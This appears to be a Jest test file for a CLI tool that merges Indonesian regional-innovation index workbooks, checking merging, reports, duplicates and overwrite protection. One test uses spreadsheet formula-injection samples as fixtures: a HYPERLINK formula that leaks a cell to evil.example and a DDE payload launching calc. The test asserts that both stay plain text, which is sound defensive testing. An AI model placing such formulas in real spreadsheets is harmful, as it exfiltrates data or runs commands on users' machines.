import ExcelJS from "exceljs";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Merged } from "../../../src/cli/merge/content";
import { ruleSet } from "../../../src/rules/years/ruleSet";
import { readWorkbook } from "../../../src/workbook/index";
import type { InnovationTable } from "../../../src/workbook/types";
import { readXlsxWorkbook } from "../../../src/xlsx/index";
import { builtCommand, element, iid2026, workFolder } from "../command";
import { levelSheet, RECAP_HEADERS, recapRow, saveWorkbook, spdSheet } from "../workbooks";

let folder = "";

beforeAll(async () => {
  builtCommand();
  folder = workFolder();
  await saveWorkbook(folder, "dinkes.xlsx", {
    Data: [
      ["DAFTAR INOVASI"],
      [
        "No",
        "Judul Inovasi",
        "OPD",
        "Tgl Penerapan",
        "16 Regulasi",
        "Bukti 16",
        "17 SDM Level",
        "17 Jumlah Orang",
        "Kode Arsip",
      ],
      [1, "SI SEHAT", "Dinas Kesehatan", "1 Juni 2024", 3, "Perda 5/2024", "", "35 orang", "Budi"],
      [2, "POSYANDU", "Dinas Kesehatan", "entah", "salah", "menyusul", 2, "12 orang", "Ani"],
      [3, "", "Dinas Kesehatan", "", 1, "", 1, "", ""],
    ],
    SPD: spdSheet({ "1": 3, "2a": 2 }),
  });
  await saveWorkbook(folder, "disdik.xlsx", {
    Inovasi: levelSheet([
      { name: "Si-Sehat", affair: "Kesehatan", levels: 2 },
      { name: "KELAS", affair: "Pendidikan", levels: { "16": 1, "35": 3 } },
    ]),
  });
  await saveWorkbook(folder, "rekap.xlsx", { Rekap: [RECAP_HEADERS, recapRow(1, 80)] });
  writeFileSync(join(folder, "rusak.xlsx"), "bukan buku kerja");
}, 180_000);

async function innovations(name: string): Promise<InnovationTable> {
  const { innovations } = readWorkbook(await readXlsxWorkbook(readFileSync(join(folder, name)), name), ruleSet(2026));
  if (!innovations) throw new Error(`no table in ${name}`);
  return innovations;
}

test("rows of any layout stand in one template with levels, evidence, file and row", async () => {
  const done = iid2026(["merge", "dinkes.xlsx", "disdik.xlsx", "-o", "gabung.xlsx"], folder);
  expect([done.code, done.stderr]).toEqual([1, ""]);
  const table = await innovations("gabung.xlsx");
  expect(table.records.map(({ name }) => name)).toEqual(["SI SEHAT", "POSYANDU", "Si-Sehat", "KELAS"]);
  const [first, second, third, last] = table.records;
  expect(first).toMatchObject({
    fields: { opd: { text: "Dinas Kesehatan" }, penerapan: { date: "2024-06-01" } },
    levels: { regulasi: { level: 3 }, sdm: { level: 3 } },
    evidence: { regulasi: { raw: "Perda 5/2024" } },
  });
  // What cannot be read stays what it was, and is found.
  expect(second).toMatchObject({
    fields: { penerapan: { raw: "entah" } },
    levels: { regulasi: { raw: "salah", invalid: true }, sdm: { level: 2 } },
  });
  expect(Object.values(third!.levels).map(({ level }) => level)).toEqual(Array(20).fill(2));
  expect(last!.levels["video"]).toMatchObject({ level: 3 });
  const origins = table.columns.slice(-2);
  expect(origins.map(({ header, role }) => [header, role.kind])).toEqual([
    ["Asal", "other"],
    ["Baris Asal", "other"],
  ]);
  const data = await readXlsxWorkbook(readFileSync(join(folder, "gabung.xlsx")), "gabung.xlsx");
  const sheet = data.sheets.find(({ name }) => name === "Inovasi")!;
  const cells = table.records.map(({ row }) =>
    origins.map(({ column }) => sheet.values[row - 1 - sheet.top]![column - sheet.left]),
  );
  expect(cells).toEqual([
    ["dinkes.xlsx", 3],
    ["dinkes.xlsx", 4],
    ["disdik.xlsx", 2],
    ["disdik.xlsx", 3],
  ]);
});

test("the report names files, what stayed behind, and names that stand twice", () => {
  const { stdout } = iid2026(["merge", "dinkes.xlsx", "disdik.xlsx", "-o", "laporan.xlsx"], folder);
  expect(stdout).toMatch(/\n\nlaporan\.xlsx ditulis: 4 inovasi dari 2 berkas\n {2}dinkes\.xlsx: 2 inovasi\n/);
  expect(stdout).toContain("baris tanpa nama ikut, isi namanya: 5");
  expect(stdout).toContain("kolom yang tidak ikut: 17 Jumlah Orang; Kode Arsip");
  expect(stdout).toContain("Nama yang sama (1)");
  expect(stdout).toContain("“SI SEHAT”: dinkes.xlsx baris 3; disdik.xlsx baris 2");
  expect(stdout).toContain("laporan.xlsx: IID 2026, 4 inovasi");
});

test("the SPD of the only file that has it is taken over; as JSON the findings are those of check", () => {
  const merged = element(iid2026(["merge", "dinkes.xlsx", "disdik.xlsx", "--json", "--out", "json.xlsx"], folder));
  const checked = element(iid2026(["check", "--json", "json.xlsx"], folder));
  const { merged: report, ...rest } = merged as typeof merged & { merged: Omit<Merged, "content"> };
  expect(rest).toEqual(checked);
  expect(rest.spd).toBe(3 + 2);
  expect(report.duplicates).toEqual([
    {
      name: "SI SEHAT",
      places: [
        { file: "dinkes.xlsx", row: 3 },
        { file: "disdik.xlsx", row: 2 },
      ],
    },
  ]);
  expect(rest.findings.filter(({ code }) => code === "duplicate-name")).toHaveLength(2);
});

test("a file that cannot be merged is named and stops none of the others", async () => {
  const done = iid2026(["merge", "rekap.xlsx", "rusak.xlsx", "disdik.xlsx", "-o", "sebagian.xlsx"], folder);
  expect(done.code).toBe(2);
  expect(done.stderr.trimEnd().split("\n")).toEqual([
    expect.stringMatching(/rekap\.xlsx: hanya berisi kematangan tanpa level/),
    expect.stringMatching(/rusak\.xlsx: /),
  ]);
  expect((await innovations("sebagian.xlsx")).records).toHaveLength(2);
});

test("never over an existing file without --force, never into itself, and never without a target", async () => {
  writeFileSync(join(folder, "ada.xlsx"), "isi lama");
  const refused = iid2026(["merge", "disdik.xlsx", "-o", "ada.xlsx"], folder);
  expect([refused.code, refused.stdout]).toEqual([2, ""]);
  expect(refused.stderr).toMatch(/ada\.xlsx sudah ada; pakai --force/);
  expect(readFileSync(join(folder, "ada.xlsx"), "utf8")).toBe("isi lama");
  expect(iid2026(["merge", "disdik.xlsx", "-o", "ada.xlsx", "--force"], folder).stderr).toBe("");
  // The result lies among the files given: it is none of them.
  expect(iid2026(["merge", "disdik.xlsx", "ada.xlsx", "-o", "ada.xlsx", "--force"], folder).stderr).toBe("");
  expect((await innovations("ada.xlsx")).records).toHaveLength(2);
  expect(iid2026(["merge", "disdik.xlsx"], folder).stderr).toMatch(/--out HASIL\.xlsx/);
  expect(iid2026(["merge", "rekap.xlsx", "-o", "kosong.xlsx"], folder).stderr).toMatch(
    /tidak ada buku kerja yang dapat/,
  );
});

test("texts that begin like formulas stay texts, and no row is lost", async () => {
  const texts = ['=HYPERLINK("http://evil.example/?d="&B6,"klik")', "=1+1", "+1", "@SUM(1)", "-2", "=cmd|'/c calc'!A1"];
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet("Data");
  sheet.addRow(["No", "Judul Inovasi", "OPD", "16 Regulasi", "Bukti 16"]);
  texts.forEach((text, i) => sheet.addRow([i + 1, text, text, 2, text]));
  sheet.addRow([texts.length + 1, null, "Dinas Sosial", 1, "Perda 5 Tahun 2024"]);
  await book.xlsx.writeFile(join(folder, "rumus.xlsx"));
  const [checked] = [element(iid2026(["merge", "rumus.xlsx", "-o", "rumus-gabung.xlsx", "--json"], folder))];
  expect(checked.innovations).toHaveLength(texts.length);
  const merged = new ExcelJS.Workbook();
  await merged.xlsx.readFile(join(folder, "rumus-gabung.xlsx"));
  const formulas: string[] = [];
  const kept = new Set<unknown>();
  merged.getWorksheet("Inovasi")!.eachRow((row) =>
    row.eachCell((cell) => {
      if (cell.formula !== undefined) formulas.push(cell.formula);
      kept.add(cell.value);
    }),
  );
  expect(formulas).toEqual([]);
  expect([...texts, "Perda 5 Tahun 2024"].filter((text) => !kept.has(text))).toEqual([]);
  expect(checked.findings.filter(({ code }) => code === "name-missing")).toHaveLength(1);
});

test("a merged workbook scores each innovation as its own file does", () => {
  const own = element(iid2026(["score", "--json", "disdik.xlsx"], folder));
  iid2026(["merge", "disdik.xlsx", "-o", "satu.xlsx"], folder);
  const merged = element(iid2026(["score", "--json", "satu.xlsx"], folder));
  expect(merged.innovations.map(({ maturity }) => maturity)).toEqual(own.innovations.map(({ maturity }) => maturity));
  expect(merged.index).toBe(own.index);
});

test("evidence that leads somewhere takes its address along", async () => {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet("Data");
  sheet.addRow(["No", "Judul Inovasi", "OPD", "16 Regulasi", "Bukti 16"]);
  sheet.addRow([1, "SI SEHAT", "Dinas Kesehatan", 3, null]);
  sheet.getCell("E2").value = { text: "Lihat bukti", hyperlink: "https://x.go.id/perda.pdf" };
  await book.xlsx.writeFile(join(folder, "tautan.xlsx"));
  expect(iid2026(["merge", "tautan.xlsx", "-o", "tautan-gabung.xlsx"], folder).stderr).toBe("");
  const [record] = (await innovations("tautan-gabung.xlsx")).records;
  expect(record?.evidence["regulasi"]?.raw).toBe("Lihat bukti https://x.go.id/perda.pdf");
});
